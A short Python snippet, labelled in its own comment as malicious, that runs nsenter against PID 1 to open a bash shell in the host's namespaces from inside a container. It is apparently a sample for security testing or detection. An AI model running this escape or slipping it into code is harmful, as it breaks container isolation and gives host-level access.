# Malicious: nsenter into PID 1's namespaces; gets a shell in the host's namespaces from a container.
import subprocess

subprocess.run(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/bash"])
